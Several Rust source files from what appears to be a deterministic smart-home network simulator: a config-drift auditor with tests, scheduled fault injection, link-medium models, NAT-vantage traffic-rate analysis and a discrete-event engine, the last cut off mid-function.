    /// onto a freshly built auditor (same spec, seed, and homes).
    ///
    /// # Errors
    ///
    /// [`CheckpointError`] on any framing violation or on a home id not
    /// managed by this auditor.
    pub fn restore_state(&mut self, r: &mut Reader) -> Result<(), CheckpointError> {
        self.audits = r.u64()?;
        self.detected = r.u64()?;
        self.remediated = r.u64()?;
        let n = r.usize()?;
        if n != self.configs.len() {
            return Err(CheckpointError::Truncated);
        }
        for _ in 0..n {
            let home = r.u64()?;
            let observed = r.u64()?;
            let entry = self
                .configs
                .get_mut(&home)
                .ok_or(CheckpointError::Truncated)?;
            entry.1 = observed;
        }
        Ok(())
    }

    /// The audit's final accounting.
    pub fn report(&self) -> ConfigAuditReport {
        ConfigAuditReport {
            every: self.spec.every,
            audits: self.audits,
            drifted: self.drift_cohort,
            detected: self.detected,
            remediated: self.remediated,
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn drifted_homes_are_detected_once_and_remediated() {
        let homes: Vec<u64> = (0..200).collect();
        let spec = ConfigAuditSpec::new(4).with_drift(20, 8);
        let mut auditor = ConfigAuditor::new(spec, 99, &homes);
        let mut bus = CommandBus::new();
        for epoch in 0..20 {
            auditor.epoch_begin(epoch, &mut bus);
        }
        let report = auditor.report();
        assert_eq!(report.every, 4);
        assert_eq!(report.audits, 4, "epochs 4, 8, 12, 16");
        assert!(
            (20..=70).contains(&report.drifted),
            "≈20% of 200: {}",
            report.drifted
        );
        assert_eq!(report.detected, report.drifted, "every drift caught");
        assert_eq!(report.remediated, report.drifted);
        assert_eq!(
            bus.applied(CommandKind::ConfigRemediate),
            report.remediated,
            "one remediate command per drifted home"
        );
        // Remediation is idempotent: later audits find nothing.
        let log_len = bus.total();
        auditor.epoch_begin(24, &mut bus);
        assert_eq!(bus.total(), log_len);
    }

    #[test]
    fn audit_before_drift_epoch_sees_golden_hashes() {
        let homes: Vec<u64> = (0..100).collect();
        let spec = ConfigAuditSpec::new(2).with_drift(50, 10);
        let mut auditor = ConfigAuditor::new(spec, 1, &homes);
        let mut bus = CommandBus::new();
        for epoch in 0..10 {
            auditor.epoch_begin(epoch, &mut bus);
        }
        assert_eq!(auditor.report().detected, 0, "no drift before epoch 10");
        assert!(auditor.report().audits > 0);
    }

    #[test]
    fn checkpoint_mid_audit_resumes_identically() {
        use xlf_stream::{Reader, Writer};
        let homes: Vec<u64> = (0..120).collect();
        let mk = || ConfigAuditor::new(ConfigAuditSpec::new(3).with_drift(25, 6), 11, &homes);

        let mut golden = mk();
        let mut bus_golden = CommandBus::new();
        for epoch in 0..18 {
            golden.epoch_begin(epoch, &mut bus_golden);
        }

        let mut first = mk();
        let mut bus = CommandBus::new();
        for epoch in 0..5 {
            first.epoch_begin(epoch, &mut bus);
        }
        let mut w = Writer::new();
        first.checkpoint_into(&mut w);
        let bytes = w.into_bytes();

        let mut resumed = mk();
        let mut r = Reader::new(&bytes);
        resumed.restore_state(&mut r).unwrap();
        r.finish().unwrap();
        let mut bus_resumed = bus.clone();
        for epoch in 5..18 {
            resumed.epoch_begin(epoch, &mut bus_resumed);
        }
        assert_eq!(resumed.report(), golden.report());
        assert_eq!(bus_resumed, bus_golden);
    }

    #[test]
    fn auditor_is_deterministic() {
        let homes: Vec<u64> = (0..64).collect();
        let run = || {
            let mut auditor = ConfigAuditor::new(ConfigAuditSpec::new(3), 7, &homes);
            let mut bus = CommandBus::new();
            for epoch in 0..15 {
                auditor.epoch_begin(epoch, &mut bus);
            }
            (auditor.report(), bus)
        };
        assert_eq!(run(), run());
    }
}
