//! Deterministic fault injection: a [`FaultPlan`] is a sim-time-ordered
//! schedule of infrastructure faults (link flaps, burst loss windows,
//! node crashes/restarts, clock skew) the engine applies *between*
//! events. Faults are part of the scenario, not of the execution: the
//! same seed + plan replays the same byte-identical run.

use crate::node::NodeId;
use crate::time::{Duration, SimTime};

/// One kind of injected infrastructure fault.
#[derive(Debug, Clone, Copy, PartialEq)]
pub enum FaultKind {
    /// Severs the bidirectional link between `a` and `b`. Packets in
    /// flight and packets sent while down are dropped (counted in
    /// [`crate::NetworkStats::fault_drops`]).
    LinkDown {
        /// One endpoint.
        a: NodeId,
        /// The other endpoint.
        b: NodeId,
    },
    /// Restores a link previously severed by [`FaultKind::LinkDown`] or
    /// degraded by [`FaultKind::LinkDegrade`] to its original config.
    LinkRestore {
        /// One endpoint.
        a: NodeId,
        /// The other endpoint.
        b: NodeId,
    },
    /// Degrades a live link: overrides its loss probability and adds
    /// latency on top of the original. A later `LinkRestore` undoes it.
    LinkDegrade {
        /// One endpoint.
        a: NodeId,
        /// The other endpoint.
        b: NodeId,
        /// Replacement per-packet loss probability in `[0, 1)`.
        loss: f64,
        /// Latency added on top of the link's original latency.
        extra_latency: Duration,
    },
    /// Crashes a node: pending deliveries to it are dropped, its armed
    /// timers are voided (crash-epoch bump), and it processes nothing
    /// until a [`FaultKind::NodeRestart`].
    NodeCrash {
        /// The node to crash.
        node: NodeId,
    },
    /// Restarts a crashed node: [`crate::Node::on_restart`] is
    /// dispatched (default: same as `on_start`) so it can re-arm its
    /// timers. Timers armed before the crash stay void.
    NodeRestart {
        /// The node to restart.
        node: NodeId,
    },
    /// Skews a node's clock forward: its [`crate::Context::now`] reads
    /// `engine time + ahead` from this point on (forward-only, so sim
    /// time never runs backwards inside a callback).
    ClockSkew {
        /// The node whose clock skews.
        node: NodeId,
        /// How far ahead of engine time the node's clock reads.
        ahead: Duration,
    },
    /// Radio interference at a node: every packet to or from `node` is
    /// dropped on the wire (counted in
    /// [`crate::NetworkStats::fault_drops`]) until a matching
    /// [`FaultKind::RadioClear`]. Unlike [`FaultKind::LinkDown`] this
    /// jams the *device*, not a link, so it covers every radio the node
    /// participates in without naming the topology.
    RadioJam {
        /// The node whose radio is jammed.
        node: NodeId,
    },
    /// Clears radio interference previously injected by
    /// [`FaultKind::RadioJam`].
    RadioClear {
        /// The node whose radio clears.
        node: NodeId,
    },
}

/// A fault scheduled at an absolute sim-time.
#[derive(Debug, Clone, Copy, PartialEq)]
pub struct FaultEvent {
    /// When the fault applies (engine time).
    pub at: SimTime,
    /// What happens.
    pub kind: FaultKind,
}

/// A deterministic schedule of faults. Build with the composable
/// helpers ([`FaultPlan::link_flap`], [`FaultPlan::burst_loss`],
/// [`FaultPlan::node_crash`], [`FaultPlan::clock_skew`]) or schedule raw
/// [`FaultEvent`]s; the engine sorts by `(at, insertion order)` so plans
/// replay identically regardless of construction order of same-time
/// faults.
#[derive(Debug, Clone, Default, PartialEq)]
pub struct FaultPlan {
    events: Vec<FaultEvent>,
}

impl FaultPlan {
    /// An empty plan (no faults).
    pub fn new() -> Self {
        FaultPlan::default()
    }

    /// Schedules a raw fault event.
    pub fn schedule(mut self, at: SimTime, kind: FaultKind) -> Self {
        self.events.push(FaultEvent { at, kind });
        self
    }

    /// Severs the `a`↔`b` link at `at` and restores it `down_for` later.
    pub fn link_flap(self, a: NodeId, b: NodeId, at: SimTime, down_for: Duration) -> Self {
        self.schedule(at, FaultKind::LinkDown { a, b })
            .schedule(at + down_for, FaultKind::LinkRestore { a, b })
    }

    /// Runs the `a`↔`b` link at `loss` probability (plus `extra_latency`
    /// of added delay) for a window starting at `at`.
    pub fn burst_loss(
        self,
        a: NodeId,
        b: NodeId,
        at: SimTime,
        window: Duration,
        loss: f64,
        extra_latency: Duration,
    ) -> Self {
        self.schedule(
            at,
            FaultKind::LinkDegrade {
                a,
                b,
                loss,
                extra_latency,
            },
        )
        .schedule(at + window, FaultKind::LinkRestore { a, b })
    }

    /// Crashes `node` at `at`; when `restart_after` is set, restarts it
    /// that much later (state callbacks re-run via `on_restart`).
    pub fn node_crash(self, node: NodeId, at: SimTime, restart_after: Option<Duration>) -> Self {
        let plan = self.schedule(at, FaultKind::NodeCrash { node });
        match restart_after {
            Some(after) => plan.schedule(at + after, FaultKind::NodeRestart { node }),
            None => plan,
        }
    }

    /// Skews `node`'s clock `ahead` of engine time starting at `at`.
    pub fn clock_skew(self, node: NodeId, at: SimTime, ahead: Duration) -> Self {
        self.schedule(at, FaultKind::ClockSkew { node, ahead })
    }

    /// Jams `node`'s radio at `at` and clears it `window` later: every
    /// packet to or from the node inside the window is dropped on the
    /// wire.
    pub fn radio_jam(self, node: NodeId, at: SimTime, window: Duration) -> Self {
        self.schedule(at, FaultKind::RadioJam { node })
            .schedule(at + window, FaultKind::RadioClear { node })
    }

    /// Number of scheduled fault events.
    pub fn len(&self) -> usize {
        self.events.len()
    }

    /// Whether the plan schedules nothing.
    pub fn is_empty(&self) -> bool {
        self.events.is_empty()
    }

    /// The scheduled events in insertion order.
    pub fn events(&self) -> &[FaultEvent] {
        &self.events
    }

    /// Consumes the plan into a schedule sorted by `(at, insertion
    /// order)` — the order the engine applies it in.
    pub(crate) fn into_sorted(self) -> Vec<FaultEvent> {
        let mut indexed: Vec<(usize, FaultEvent)> = self.events.into_iter().enumerate().collect();
        indexed.sort_by_key(|&(i, e)| (e.at, i));
        indexed.into_iter().map(|(_, e)| e).collect()
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn helpers_expand_to_paired_events() {
        let a = NodeId::from_raw(0);
        let b = NodeId::from_raw(1);
        let plan = FaultPlan::new()
            .link_flap(a, b, SimTime::from_secs(10), Duration::from_secs(5))
            .node_crash(b, SimTime::from_secs(20), Some(Duration::from_secs(3)));
        assert_eq!(plan.len(), 4);
        let sorted = plan.into_sorted();
        assert_eq!(sorted[0].at, SimTime::from_secs(10));
        assert_eq!(sorted[1].at, SimTime::from_secs(15));
        assert!(matches!(sorted[2].kind, FaultKind::NodeCrash { .. }));
        assert!(matches!(sorted[3].kind, FaultKind::NodeRestart { .. }));
    }

    #[test]
    fn radio_jam_expands_to_a_jam_clear_pair() {
        let n = NodeId::from_raw(2);
        let plan = FaultPlan::new().radio_jam(n, SimTime::from_secs(30), Duration::from_secs(12));
        assert_eq!(plan.len(), 2);
        let sorted = plan.into_sorted();
        assert_eq!(sorted[0].at, SimTime::from_secs(30));
        assert!(matches!(sorted[0].kind, FaultKind::RadioJam { node } if node == n));
        assert_eq!(sorted[1].at, SimTime::from_secs(42));
        assert!(matches!(sorted[1].kind, FaultKind::RadioClear { node } if node == n));
    }

    #[test]
    fn sort_is_stable_for_same_time_faults() {
        let a = NodeId::from_raw(0);
        let b = NodeId::from_raw(1);
        let at = SimTime::from_secs(7);
        let plan = FaultPlan::new()
            .schedule(at, FaultKind::LinkDown { a, b })
            .schedule(at, FaultKind::LinkRestore { a, b });
        let sorted = plan.into_sorted();
        assert!(matches!(sorted[0].kind, FaultKind::LinkDown { .. }));
        assert!(matches!(sorted[1].kind, FaultKind::LinkRestore { .. }));
    }
}
