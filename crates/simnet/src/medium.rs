//! Media models for the protocol families in the paper's Figure 2.

use crate::link::LinkConfig;
use crate::time::Duration;
use std::fmt;

/// Physical/link medium connecting two nodes.
///
/// Parameters are representative of the technology class (good enough for
/// relative timing/size observables; no claim of RF fidelity).
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash)]
pub enum Medium {
    /// Wired Ethernet (gateway ↔ router, router ↔ modem).
    Ethernet,
    /// IEEE 802.11 WiFi (cameras, TVs, high-rate devices).
    Wifi,
    /// ZigBee over IEEE 802.15.4 (bulbs, sensors).
    Zigbee,
    /// Z-Wave sub-GHz mesh (locks, wall switches).
    Zwave,
    /// Bluetooth Low Energy (wearables, beacons).
    Ble,
    /// 6LoWPAN (IPv6 over 802.15.4 sensor networks).
    SixLowpan,
    /// The access link from the home to the Internet/cloud.
    Wan,
}

impl Medium {
    /// Nominal bandwidth in bits per second.
    pub fn bandwidth_bps(self) -> u64 {
        match self {
            Medium::Ethernet => 1_000_000_000,
            Medium::Wifi => 100_000_000,
            Medium::Zigbee => 250_000,
            Medium::Zwave => 100_000,
            Medium::Ble => 1_000_000,
            Medium::SixLowpan => 250_000,
            Medium::Wan => 50_000_000,
        }
    }

    /// One-way propagation/processing latency.
    pub fn latency(self) -> Duration {
        match self {
            Medium::Ethernet => Duration::from_micros(100),
            Medium::Wifi => Duration::from_micros(1_500),
            Medium::Zigbee => Duration::from_micros(5_000),
            Medium::Zwave => Duration::from_micros(8_000),
            Medium::Ble => Duration::from_micros(3_000),
            Medium::SixLowpan => Duration::from_micros(6_000),
            Medium::Wan => Duration::from_millis(20),
        }
    }

    /// Baseline packet loss probability (before interference modeling).
    pub fn loss(self) -> f64 {
        match self {
            Medium::Ethernet => 0.0,
            Medium::Wifi => 0.005,
            Medium::Zigbee => 0.01,
            Medium::Zwave => 0.01,
            Medium::Ble => 0.008,
            Medium::SixLowpan => 0.012,
            Medium::Wan => 0.001,
        }
    }

    /// Maximum transmission unit in bytes.
    pub fn mtu(self) -> usize {
        match self {
            Medium::Ethernet | Medium::Wan => 1500,
            Medium::Wifi => 1500,
            Medium::Zigbee | Medium::SixLowpan => 127,
            Medium::Zwave => 64,
            Medium::Ble => 251,
        }
    }

    /// The TCP/IP stack layer this technology occupies in Figure 2.
    pub fn stack_layer(self) -> &'static str {
        "link/physical"
    }

    /// Builds the default [`LinkConfig`] for this medium.
    pub fn link(self) -> LinkConfig {
        LinkConfig {
            medium: self,
            bandwidth_bps: self.bandwidth_bps(),
            latency: self.latency(),
            loss: self.loss(),
        }
    }
}

impl fmt::Display for Medium {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        let s = match self {
            Medium::Ethernet => "Ethernet",
            Medium::Wifi => "WiFi",
            Medium::Zigbee => "ZigBee",
            Medium::Zwave => "Z-Wave",
            Medium::Ble => "BLE",
            Medium::SixLowpan => "6LoWPAN",
            Medium::Wan => "WAN",
        };
        f.write_str(s)
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn constrained_media_are_slower_than_wired() {
        assert!(Medium::Zigbee.bandwidth_bps() < Medium::Wifi.bandwidth_bps());
        assert!(Medium::Zwave.bandwidth_bps() < Medium::Zigbee.bandwidth_bps() * 3);
        assert!(Medium::Ethernet.latency() < Medium::Zigbee.latency());
    }

    #[test]
    fn mtus_match_technology_class() {
        assert_eq!(Medium::Zigbee.mtu(), 127);
        assert_eq!(Medium::Zwave.mtu(), 64);
        assert_eq!(Medium::Ethernet.mtu(), 1500);
    }

    #[test]
    fn default_link_config_copies_medium_parameters() {
        let cfg = Medium::Wifi.link();
        assert_eq!(cfg.bandwidth_bps, Medium::Wifi.bandwidth_bps());
        assert_eq!(cfg.latency, Medium::Wifi.latency());
    }

    #[test]
    fn loss_probabilities_are_valid() {
        for m in [
            Medium::Ethernet,
            Medium::Wifi,
            Medium::Zigbee,
            Medium::Zwave,
            Medium::Ble,
            Medium::SixLowpan,
            Medium::Wan,
        ] {
            assert!((0.0..1.0).contains(&m.loss()));
        }
    }
}
