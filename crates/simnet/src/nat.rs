//! NAT-vantage flow analysis: groups observed packets into the streams a
//! passive observer outside the home NAT can distinguish, and computes the
//! rate statistics Apthorpe et al. use to infer device state (§IV-B1,
//! step 3 of the observer procedure the paper describes).

use crate::node::NodeId;
use crate::observer::PacketRecord;
use crate::time::{Duration, SimTime};
use std::collections::BTreeMap;

/// Key a NAT-external observer can see: the remote (cloud) endpoint of a
/// stream. Internal devices share one external IP, so streams are
/// separated by remote endpoint, exactly as in the paper's step 1.
#[derive(Debug, Clone, Copy, PartialEq, Eq, PartialOrd, Ord, Hash)]
pub struct RemoteEndpoint(pub NodeId);

/// Per-stream statistics over an observation window.
#[derive(Debug, Clone, PartialEq)]
pub struct StreamStats {
    /// Remote endpoint identifying the stream.
    pub remote: RemoteEndpoint,
    /// Packets sent home → remote.
    pub upstream_packets: usize,
    /// Packets sent remote → home.
    pub downstream_packets: usize,
    /// Bytes home → remote.
    pub upstream_bytes: u64,
    /// Bytes remote → home.
    pub downstream_bytes: u64,
    /// Mean upstream send rate in bytes/second over the window.
    pub upstream_rate_bps: f64,
    /// Mean downstream rate in bytes/second over the window.
    pub downstream_rate_bps: f64,
}

/// Groups records into NAT-external streams.
///
/// `home` is the set of node ids behind the NAT; everything else is
/// treated as a remote endpoint. Packets between two home nodes are
/// invisible to this observer and skipped.
pub fn streams(records: &[PacketRecord], home: &[NodeId], window: Duration) -> Vec<StreamStats> {
    let is_home = |n: NodeId| home.contains(&n);
    let mut map: BTreeMap<RemoteEndpoint, StreamStats> = BTreeMap::new();
    for rec in records {
        let (remote, upstream) = match (is_home(rec.src), is_home(rec.dst)) {
            (true, false) => (RemoteEndpoint(rec.dst), true),
            (false, true) => (RemoteEndpoint(rec.src), false),
            _ => continue,
        };
        let entry = map.entry(remote).or_insert_with(|| StreamStats {
            remote,
            upstream_packets: 0,
            downstream_packets: 0,
            upstream_bytes: 0,
            downstream_bytes: 0,
            upstream_rate_bps: 0.0,
            downstream_rate_bps: 0.0,
        });
        if upstream {
            entry.upstream_packets += 1;
            entry.upstream_bytes += rec.wire_size as u64;
        } else {
            entry.downstream_packets += 1;
            entry.downstream_bytes += rec.wire_size as u64;
        }
    }
    let secs = window.as_secs_f64().max(1e-9);
    let mut out: Vec<StreamStats> = map.into_values().collect();
    for s in &mut out {
        s.upstream_rate_bps = s.upstream_bytes as f64 / secs;
        s.downstream_rate_bps = s.downstream_bytes as f64 / secs;
    }
    out
}

/// Counts distinct remote endpoints — the paper's step 1 ("identify and
/// count the distinct clients behind a NAT" by separating streams).
pub fn distinct_streams(records: &[PacketRecord], home: &[NodeId]) -> usize {
    streams(records, home, Duration::from_secs(1)).len()
}

/// Slices records into fixed windows and emits per-window rates for one
/// stream — the send/receive-rate time series the paper's step 3 uses to
/// reveal user interactions.
pub fn rate_series(
    records: &[PacketRecord],
    home: &[NodeId],
    remote: RemoteEndpoint,
    window: Duration,
    horizon: SimTime,
) -> Vec<f64> {
    let w = window.as_micros().max(1);
    let buckets = (horizon.as_micros() / w + 1) as usize;
    let mut series = vec![0f64; buckets];
    let is_home = |n: NodeId| home.contains(&n);
    for rec in records {
        let external = if is_home(rec.src) && rec.dst == remote.0 {
            true
        } else {
            rec.src == remote.0 && is_home(rec.dst)
        };
        if !external {
            continue;
        }
        let idx = (rec.at.as_micros() / w) as usize;
        if idx < buckets {
            series[idx] += rec.wire_size as f64;
        }
    }
    let secs = window.as_secs_f64().max(1e-9);
    for v in &mut series {
        *v /= secs;
    }
    series
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::packet::Protocol;

    fn rec(at_ms: u64, src: u32, dst: u32, size: usize) -> PacketRecord {
        PacketRecord {
            at: SimTime::from_millis(at_ms),
            src: NodeId::from_raw(src),
            dst: NodeId::from_raw(dst),
            wire_size: size,
            protocol: Protocol::Tls,
            ground_truth_kind: "t".to_string(),
        }
    }

    fn home() -> Vec<NodeId> {
        vec![NodeId::from_raw(1), NodeId::from_raw(2)]
    }

    #[test]
    fn streams_split_by_remote_endpoint() {
        let records = vec![
            rec(0, 1, 10, 100),
            rec(1, 1, 10, 100),
            rec(2, 10, 1, 400),
            rec(3, 2, 11, 50),
        ];
        let stats = streams(&records, &home(), Duration::from_secs(1));
        assert_eq!(stats.len(), 2);
        let s10 = stats
            .iter()
            .find(|s| s.remote == RemoteEndpoint(NodeId::from_raw(10)))
            .unwrap();
        assert_eq!(s10.upstream_packets, 2);
        assert_eq!(s10.downstream_packets, 1);
        assert_eq!(s10.upstream_bytes, 200);
        assert_eq!(s10.downstream_bytes, 400);
    }

    #[test]
    fn internal_traffic_is_invisible() {
        let records = vec![rec(0, 1, 2, 100), rec(1, 2, 1, 100)];
        assert_eq!(distinct_streams(&records, &home()), 0);
    }

    #[test]
    fn rates_scale_with_window() {
        let records = vec![rec(0, 1, 10, 1000)];
        let s = streams(&records, &home(), Duration::from_secs(2));
        assert!((s[0].upstream_rate_bps - 500.0).abs() < 1e-9);
    }

    #[test]
    fn rate_series_buckets_by_time() {
        let records = vec![
            rec(0, 1, 10, 100),
            rec(1500, 1, 10, 300),
            rec(1800, 10, 1, 50),
        ];
        let series = rate_series(
            &records,
            &home(),
            RemoteEndpoint(NodeId::from_raw(10)),
            Duration::from_secs(1),
            SimTime::from_secs(2),
        );
        assert_eq!(series.len(), 3);
        assert!((series[0] - 100.0).abs() < 1e-9);
        assert!((series[1] - 350.0).abs() < 1e-9);
        assert_eq!(series[2], 0.0);
    }
}
