//! The discrete-event engine: event queue, dispatch loop, and the
//! [`Context`] through which nodes act on the world.

use crate::link::LinkConfig;
use crate::node::{Node, NodeId, TimerId};
use crate::observer::Tap;
use crate::packet::Packet;
use crate::time::{Duration, SimTime};
use rand::rngs::StdRng;
use rand::{Rng, SeedableRng};
use std::cmp::Reverse;
use std::collections::{BinaryHeap, HashMap, HashSet};

/// Aggregate counters the engine maintains.
#[derive(Debug, Clone, Copy, Default, PartialEq, Eq)]
pub struct NetworkStats {
    /// Packets handed to a link (after shaping, before loss).
    pub sent: u64,
    /// Packets delivered to their destination node.
    pub delivered: u64,
    /// Packets dropped by link loss.
    pub lost: u64,
    /// Packets dropped because no link connects src and dst.
    pub no_route: u64,
    /// Total wire bytes transmitted.
    pub wire_bytes: u64,
    /// Timers fired.
    pub timers_fired: u64,
}

#[derive(Debug)]
enum EventKind {
    Deliver(Packet),
    Timer {
        node: NodeId,
        timer: TimerId,
        tag: u64,
    },
}

#[derive(Debug)]
struct Event {
    at: SimTime,
    seq: u64,
    kind: EventKind,
}

impl PartialEq for Event {
    fn eq(&self, other: &Self) -> bool {
        self.at == other.at && self.seq == other.seq
    }
}
impl Eq for Event {}
impl PartialOrd for Event {
    fn partial_cmp(&self, other: &Self) -> Option<std::cmp::Ordering> {
        Some(self.cmp(other))
    }
}
impl Ord for Event {
    fn cmp(&self, other: &Self) -> std::cmp::Ordering {
        (self.at, self.seq).cmp(&(other.at, other.seq))
    }
}

enum Effect {
    Send {
        packet: Packet,
        extra_delay: Duration,
    },
    SetTimer {
        node: NodeId,
        timer: TimerId,
        after: Duration,
        tag: u64,
    },
    CancelTimer(TimerId),
}

/// The world a node callback can act on: send packets, arm timers, read
/// the clock.
pub struct Context<'a> {
    id: NodeId,
    now: SimTime,
    effects: &'a mut Vec<Effect>,
    next_timer: &'a mut u64,
}

impl<'a> Context<'a> {
    /// The node this callback belongs to.
    pub fn id(&self) -> NodeId {
        self.id
    }

    /// Current simulation time.
    pub fn now(&self) -> SimTime {
        self.now
    }

    /// Sends `packet` to `to` over the direct link (must exist, else the
    /// packet is dropped and counted in [`NetworkStats::no_route`]).
    pub fn send(&mut self, to: NodeId, mut packet: Packet) {
        packet.src = self.id;
        packet.dst = to;
        self.effects.push(Effect::Send {
            packet,
            extra_delay: Duration::ZERO,
        });
    }

    /// Sends after an additional sender-side delay (the traffic-shaping
    /// primitive).
    pub fn send_after(&mut self, to: NodeId, mut packet: Packet, delay: Duration) {
        packet.src = self.id;
        packet.dst = to;
        self.effects.push(Effect::Send {
            packet,
            extra_delay: delay,
        });
    }

    /// Arms a one-shot timer that fires after `after`, delivering `tag`
    /// back to [`Node::on_timer`].
    pub fn set_timer(&mut self, after: Duration, tag: u64) -> TimerId {
        let timer = TimerId(*self.next_timer);
        *self.next_timer += 1;
        self.effects.push(Effect::SetTimer {
            node: self.id,
            timer,
            after,
            tag,
        });
        timer
    }

    /// Cancels a previously armed timer (no-op if already fired).
    pub fn cancel_timer(&mut self, timer: TimerId) {
        self.effects.push(Effect::CancelTimer(timer));
    }
}

/// A deterministic simulated network.
pub struct Network {
    nodes: Vec<Option<Box<dyn Node>>>,
    links: HashMap<(NodeId, NodeId), LinkConfig>,
    queue: BinaryHeap<Reverse<Event>>,
    now: SimTime,
    seq: u64,
    seed: u64,
    rng: StdRng,
    taps: Vec<Box<dyn Tap>>,
    cancelled: HashSet<u64>,
    next_timer: u64,
    /// Nodes with index below this have had `on_start` dispatched.
    started_upto: usize,
    stats: NetworkStats,
    /// Hard cap on processed events, preventing runaway feedback loops.
    pub max_events: u64,
}

impl std::fmt::Debug for Network {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        f.debug_struct("Network")
            .field("nodes", &self.nodes.len())
            .field("links", &self.links.len())
            .field("now", &self.now)
            .field("stats", &self.stats)
            .finish_non_exhaustive()
    }
}

impl Network {
    /// Creates an empty network with a deterministic RNG seed (drives
    /// packet loss only).
    pub fn new(seed: u64) -> Self {
        Network {
            nodes: Vec::new(),
            links: HashMap::new(),
            queue: BinaryHeap::new(),
            now: SimTime::ZERO,
            seq: 0,
            seed,
            rng: StdRng::seed_from_u64(seed),
            taps: Vec::new(),
            cancelled: HashSet::new(),
            next_timer: 0,
            started_upto: 0,
            stats: NetworkStats::default(),
            max_events: 20_000_000,
        }
    }

    /// The RNG seed this network was created with.
    pub fn seed(&self) -> u64 {
        self.seed
    }

    /// Registers a node, returning its id.
    pub fn add_node(&mut self, node: Box<dyn Node>) -> NodeId {
        let id = NodeId::from_raw(self.nodes.len() as u32);
        self.nodes.push(Some(node));
        id
    }

    /// Connects two nodes with a bidirectional link.
    ///
    /// # Panics
    ///
    /// Panics if either id is unknown or `a == b`.
    pub fn connect(&mut self, a: NodeId, b: NodeId, config: LinkConfig) {
        assert_ne!(a, b, "cannot self-link {a}");
        assert!((a.raw() as usize) < self.nodes.len(), "unknown node {a}");
        assert!((b.raw() as usize) < self.nodes.len(), "unknown node {b}");
        self.links.insert((a, b), config);
        self.links.insert((b, a), config);
    }

    /// Attaches a promiscuous tap observing every transmission.
    pub fn add_tap(&mut self, tap: Box<dyn Tap>) {
        self.taps.push(tap);
    }

    /// Looks up the link between two nodes.
    pub fn link_between(&self, a: NodeId, b: NodeId) -> Option<&LinkConfig> {
        self.links.get(&(a, b))
    }

    /// Queues a packet for delivery as if `src` had sent it (bootstraps
    /// traffic from outside any node callback). Honors links, loss, and
    /// observers exactly like [`Context::send`].
    pub fn inject(&mut self, src: NodeId, dst: NodeId, mut packet: Packet) {
        packet.src = src;
        packet.dst = dst;
        self.transmit(packet, Duration::ZERO);
    }

    /// Current simulation time.
    pub fn now(&self) -> SimTime {
        self.now
    }

    /// Engine counters so far.
    pub fn stats(&self) -> NetworkStats {
        self.stats
    }

    /// Immutable access to a node (for post-run inspection via downcast
    /// helpers in higher layers).
    pub fn node(&self, id: NodeId) -> Option<&dyn Node> {
        self.nodes
            .get(id.raw() as usize)
            .and_then(|slot| slot.as_deref())
    }

    /// Mutable access to a node between runs.
    pub fn node_mut(&mut self, id: NodeId) -> Option<&mut (dyn Node + '_)> {
        match self.nodes.get_mut(id.raw() as usize) {
            Some(Some(node)) => Some(node.as_mut()),
            _ => None,
        }
    }

    /// Downcasts a node to its concrete type for inspection.
    pub fn node_as<T: 'static>(&self, id: NodeId) -> Option<&T> {
        self.node(id).and_then(|n| n.as_any().downcast_ref::<T>())
    }

    /// Downcasts a node mutably (e.g. to reconfigure it between runs).
    pub fn node_as_mut<T: 'static>(&mut self, id: NodeId) -> Option<&mut T> {
        match self.nodes.get_mut(id.raw() as usize) {
            Some(Some(node)) => node.as_any_mut().downcast_mut::<T>(),
            _ => None,
        }
    }

    fn transmit(&mut self, packet: Packet, extra_delay: Duration) {
        let key = (packet.src, packet.dst);
        let Some(link) = self.links.get(&key).copied() else {
            self.stats.no_route += 1;
            return;
        };
        self.stats.sent += 1;
        self.stats.wire_bytes += packet.wire_size as u64;
        let at = self.now + extra_delay + link.delay_for(packet.wire_size);
        for tap in self.taps.iter_mut() {
            tap.on_transmit(self.now + extra_delay, &packet, &link);
        }
        if link.loss > 0.0 && self.rng.gen::<f64>() < link.loss {
            self.stats.lost += 1;
            return;
        }
        self.push_event(at, EventKind::Deliver(packet));
    }

    fn push_event(&mut self, at: SimTime, kind: EventKind) {
        let seq = self.seq;
        self.seq += 1;
        self.queue.push(Reverse(Event { at, seq, kind }));
    }

    fn apply_effects(&mut self, effects: Vec<Effect>) {
        for effect in effects {
            match effect {
                Effect::Send {
                    packet,
                    extra_delay,
                } => self.transmit(packet, extra_delay),
                Effect::SetTimer {
                    node,
                    timer,
                    after,
                    tag,
                } => {
                    let at = self.now + after;
                    self.push_event(at, EventKind::Timer { node, timer, tag });
                }
                Effect::CancelTimer(timer) => {
                    self.cancelled.insert(timer.0);
                }
            }
        }
    }

    /// Dispatches `on_start` for any node that has not yet been started
    /// (including nodes added between runs).
    fn dispatch_start(&mut self) {
        while self.started_upto < self.nodes.len() {
            let id = NodeId::from_raw(self.started_upto as u32);
            self.started_upto += 1;
            self.with_node(id, |node, ctx| node.on_start(ctx));
        }
    }

    /// Runs `f` with the node temporarily removed from the registry (so
    /// the callback can borrow the network through `Context` effects).
    fn with_node<F>(&mut self, id: NodeId, f: F)
    where
        F: FnOnce(&mut dyn Node, &mut Context<'_>),
    {
        let slot = id.raw() as usize;
        let Some(mut node) = self.nodes.get_mut(slot).and_then(Option::take) else {
            return;
        };
        let mut effects = Vec::new();
        let mut next_timer = self.next_timer;
        {
            let mut ctx = Context {
                id,
                now: self.now,
                effects: &mut effects,
                next_timer: &mut next_timer,
            };
            f(node.as_mut(), &mut ctx);
        }
        self.next_timer = next_timer;
        self.nodes[slot] = Some(node);
        self.apply_effects(effects);
    }

    /// Runs the simulation until the event queue is empty (or the event
    /// cap is hit). Returns the final counters.
    pub fn run(&mut self) -> NetworkStats {
        self.run_until(SimTime::from_micros(u64::MAX))
    }

    /// Runs the simulation until `deadline` (inclusive) or queue
    /// exhaustion. Events scheduled after the deadline remain queued.
    pub fn run_until(&mut self, deadline: SimTime) -> NetworkStats {
        self.dispatch_start();
        let mut processed = 0u64;
        while let Some(next_at) = self.queue.peek().map(|Reverse(e)| e.at) {
            if next_at > deadline {
                break;
            }
            let Reverse(event) = self.queue.pop().expect("peeked");
            self.now = event.at;
            processed += 1;
            if processed > self.max_events {
                panic!(
